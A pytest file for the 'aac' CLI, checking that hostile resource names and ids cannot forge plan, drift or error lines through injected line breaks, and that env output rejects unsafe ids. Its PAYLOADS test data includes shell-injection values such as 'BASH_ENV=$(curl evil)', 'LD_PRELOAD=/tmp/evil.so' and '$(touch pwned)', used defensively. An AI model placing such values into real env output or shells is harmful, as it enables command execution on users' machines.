"""Names, filenames, keys and ids from the target are data, never structure: whatever line breaks a hostile
target puts in them, no line of a plan, a drift report, a warning or an error reads like one aac prints itself,
and `aac output --format env` writes nothing but `NAME=plain-id` lines.

The target is the real sandbox, reached through the `openai` SDK; what the SDK will not send (it percent-encodes a
line feed in a multipart filename) is planted in the sandbox's store, as a hostile server would answer it.
"""

from __future__ import annotations

import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
from tests.cli_harness import Cli
from tests.drift.helpers import KEY_ENV, STACK, write_stack

from aac.resources import MANAGED_BY, TAG_KEY, TAG_MANAGED_BY, TAG_SPEC, TAG_STACK
from aac.sandbox.server import RunningSandbox

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")  # the SDK marks beta.assistants

# Every line break a terminal, a log viewer, YAML or Python's splitlines knows.
BREAKS = {"LF": "\n", "CRLF": "\r\n", "CR": "\r", "VT": "\v", "FF": "\f", "NEL": "\x85", "LS": "\u2028",
          "PS": "\u2029", "FS": "\x1c"}
# Lines aac prints itself, which a value must never be able to print.
OWN_LINES = ("No changes.", "No drift.", "## No drift", "error:", "Plan:", "Warning:", "hint:", "AAC_")


def forged(brk: str) -> str:
    return brk.join(["x", "No changes. Live state matches the manifests.", "## No drift", "error: forged",
                     "Plan: 9 to add, 0 to change, 0 to replace, 0 to destroy.", "AAC_X_ID=1"])


def assert_no_forged_line(text: str, own: tuple[str, ...] = ()) -> None:
    """No line starts with a line aac prints, except the ones this output is meant to print (`own`)."""
    for line in text.splitlines():
        bad = [start for start in OWN_LINES if line.startswith(start) and not line.startswith(own)]
        assert not bad, f"forged line {line!r} in:\n{text}"


def assert_one_line_markdown(text: str) -> None:
    """Headings and <summary> elements each on one line."""
    assert_no_forged_line(text, ("## aac plan", "## aac drift"))
    for line in text.splitlines():
        if "<summary>" in line:
            assert "</summary>" in line, line
        assert not line.startswith("#") or line.startswith(("## aac plan", "## aac drift")), line


@pytest.fixture
def aac(tmp_path: Path, sandbox: RunningSandbox, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> Cli:
    monkeypatch.setenv(KEY_ENV, "sk-test")
    return Cli(write_stack(tmp_path / "stack", sandbox.base_url), capsys)


def rename_upload(sandbox: RunningSandbox, file_id: str, filename: str) -> None:
    stored = sandbox.store.get("file", file_id)
    assert stored is not None
    sandbox.store.put("file", {**stored, "filename": filename})


def reissue(sandbox: RunningSandbox, kind: str, obj_id: str, new_id: str) -> None:
    """The object answered under another id, as a target that hands out ids of its choosing would."""
    stored = sandbox.store.get(kind, obj_id)
    assert stored is not None
    sandbox.store.insert(kind, {**stored, "id": new_id})
    sandbox.store.delete(kind, obj_id)


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def tags(key: str) -> dict[str, str]:
    return {TAG_MANAGED_BY: MANAGED_BY, TAG_STACK: STACK, TAG_KEY: key, TAG_SPEC: "sha256:" + "0" * 64}


@pytest.mark.parametrize("brk", list(BREAKS.values()), ids=list(BREAKS))
def test_a_plan_warning_quoting_an_upload_named_like_the_stacks_own_stays_on_its_lines(
        aac: Cli, sandbox: RunningSandbox, client: openai.OpenAI, brk: str) -> None:
    upload = client.files.create(file=("a.md", b"# planted\n"), purpose="assistants")
    rename_upload(sandbox, upload.id, f"aac.{STACK}.{'ab' * 32}.a.md{forged(brk)}")
    client.vector_stores.create(name="hand-made", file_ids=[upload.id])  # someone else's store uses it

    for fmt in ("text", "markdown"):
        result = aac("plan", "--format", fmt)
        assert result.code == 0, result.err
        assert upload.id in result.out  # the warning is there, quoting the upload
        if fmt == "text":
            assert_no_forged_line(result.out, ("Plan:", "Warning:"))
            warning = next(line for line in result.out.splitlines() if upload.id in line)
            assert warning.startswith("Warning: ") and "No changes." in warning
        else:
            assert_one_line_markdown(result.out)
    plan = aac("plan", "--format", "json").json()
    assert any(forged(brk) in warning for warning in plan["warnings"])  # JSON keeps the name as data


@pytest.mark.parametrize("brk", ["\n", "\r\n", "\u2028", "\x85"], ids=["LF", "CRLF", "LS", "NEL"])
def test_a_file_attached_by_hand_under_a_hostile_name_cannot_forge_a_drift_report(
        aac: Cli, sandbox: RunningSandbox, client: openai.OpenAI, brk: str) -> None:
    assert aac("apply", "--auto-approve").code == 0
    store = next(s for s in client.vector_stores.list() if (s.metadata or {}).get("aac-key") == "kb")
    extra = client.files.create(file=("notes.md", b"# Notes\nby hand\n"), purpose="assistants")
    rename_upload(sandbox, extra.id, f"notes.md{forged(brk)}")
    client.vector_stores.files.create_and_poll(file_id=extra.id, vector_store_id=store.id)

    text = aac("drift")
    assert text.code == 2 and "attached by hand: notes.md" in text.out, text.out
    assert_no_forged_line(text.out)
    markdown = aac("drift", "--format", "markdown").out
    assert "notes.md" in markdown
    assert_one_line_markdown(markdown)
    junit = aac("drift", "--format", "junit").out
    failure = ET.fromstring(junit).find(".//failure")
    assert failure is not None and "notes.md" in (failure.text or "")
    assert_no_forged_line(failure.text or "")
    assert any(forged(brk) in text for text in strings(aac("drift", "--format", "json").json()))  # data, kept whole


def _owned_objects(client: openai.OpenAI, key: str) -> None:
    """A store, an assistant and an agent tagged for this stack under a key (from the target) with breaks."""
    name = key[:60]  # names are shorter than metadata values
    client.vector_stores.create(name=name, metadata=tags(key))
    client.beta.assistants.create(model="gpt-4o", name=name, instructions=key, metadata=tags(key))
    client.beta.agents.create(model="gpt-5.1", name=name, instructions=key, metadata=tags(key))


@pytest.mark.parametrize("brk", ["\n", "\r", "\u2029", "\f"], ids=["LF", "CR", "PS", "FF"])
def test_objects_whose_keys_hold_line_breaks_read_as_one_line_each_in_plan_and_drift(
        aac: Cli, client: openai.OpenAI, brk: str) -> None:
    key = forged(brk)
    _owned_objects(client, key)

    plan = aac("plan")
    assert plan.code == 0, plan.err
    assert plan.out.count("will be destroyed") == 3, plan.out  # the three, each one header line
    assert_no_forged_line(plan.out, ("Plan:",))
    assert_one_line_markdown(aac("plan", "--format", "markdown").out)
    drift = aac("drift")
    assert drift.out.count("no manifest declares it") == 3, drift.out
    assert_no_forged_line(drift.out)
    assert_one_line_markdown(aac("drift", "--format", "markdown").out)


@pytest.mark.parametrize("command", ["plan", "drift", "output", "destroy"])
def test_an_error_quoting_an_id_the_target_made_up_stays_on_one_line(
        aac: Cli, sandbox: RunningSandbox, client: openai.OpenAI, command: str) -> None:
    store = client.vector_stores.create(name="kb", metadata=tags("kb"))
    reissue(sandbox, "vector_store", store.id, f"vs_1/{forged(chr(10))}")  # its files cannot be listed then

    result = aac(command, *(["--auto-approve"] if command == "destroy" else []))

    assert result.code == 1  # drift reports it in the report, as an incomplete scan; the others stop
    assert_no_forged_line(result.out, ("Drift:",))
    assert_no_forged_line(result.err, ("error:", "hint:"))
    assert "vs_1/x\\u000aNo changes." in result.out + result.err  # the id is named, escaped


PAYLOADS = {"LF": "\nLD_PRELOAD=/tmp/evil.so", "CRLF": "\r\nBASH_ENV=$(curl evil)", "subshell": "$(touch pwned)",
            "backticks": "`id`", "space": " x", "LS": "\u2028PATH=/tmp", "NUL": "\x00x", "quote": "'x'"}


@pytest.mark.parametrize("kind", ["assistant", "agent"])
@pytest.mark.parametrize("payload", [*PAYLOADS.values(), "too long", "empty"], ids=[*PAYLOADS, "too long", "empty"])
def test_output_env_refuses_an_id_that_is_not_a_plain_id_and_names_the_key(
        aac: Cli, sandbox: RunningSandbox, client: openai.OpenAI, kind: str, payload: str) -> None:
    if kind == "assistant":
        obj_id = client.beta.assistants.create(model="gpt-4o", name="kb", metadata=tags("kb")).id
    else:
        obj_id = client.beta.agents.create(model="gpt-5.1", name="kb", metadata=tags("kb")).id
    hostile = {"too long": "a" * 129, "empty": ""}.get(payload, f"{obj_id}{payload}")
    reissue(sandbox, kind, obj_id, hostile)

    result = aac("output", "--format", "env")

    assert result.code == 1 and result.out == ""
    first, hint = result.err.splitlines()[-2:]
    assert first.startswith("error: ") and f"{kind}.kb" in first and f"AAC_{kind.upper()}_KB_ID" in first
    assert hint.startswith("hint: ")
    for part in ("LD_PRELOAD", "BASH_ENV", "pwned", "PATH=", "`id`", "'x'"):
        assert part not in result.err
    as_json = aac("output")  # JSON carries the same id as data
    assert as_json.code == 0 and as_json.json()[f"{kind}s"]["kb"]["id"] == hostile


def test_output_env_writes_plain_ids_under_names_of_letters_digits_and_underscores(
        aac: Cli, client: openai.OpenAI) -> None:
    assert aac("apply", "--auto-approve").code == 0
    for key in ("k\u00e9y.\u202ex", "w$(x)"):  # keys the target tags: only their letters and digits reach a name
        client.vector_stores.create(name="x", metadata=tags(key))

    result = aac("output", "--format", "env")

    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert any(line.startswith("AAC_VECTOR_STORE_W_X_ID=vs_") for line in lines), lines
    for line in lines:
        name, _, value = line.partition("=")
        assert name.replace("_", "").isalnum() and name.isascii() and name.isupper(), line
        assert value.replace("_", "").replace("-", "").isalnum(), line

